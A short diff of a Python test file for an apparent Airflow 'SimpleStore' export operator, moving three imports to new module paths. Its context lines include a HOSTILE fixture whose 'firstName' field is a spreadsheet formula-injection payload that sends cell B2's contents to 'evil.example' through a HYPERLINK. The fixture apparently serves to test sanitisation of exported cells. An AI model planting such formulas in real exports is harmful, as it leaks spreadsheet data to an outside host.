@@ -10,9 +10,9 @@ from typing import Any
 import pytest
 
 from airflow_provider_simplestore.hooks.simplestore import SimpleStoreHook
-from airflow_provider_simplestore.operators.export import SimpleStoreExportOperator
-from airflow_provider_simplestore.operators.formats import cell
-from tests.operators.helpers import context
+from airflow_provider_simplestore.transfers.simplestore_to_storage import SimpleStoreExportOperator
+from airflow_provider_simplestore.utils.formats import cell
+from tests.operator_support import context
 
 HOSTILE = {
     "firstName": '=HYPERLINK("http://evil.example/?"&B2,"Click")',
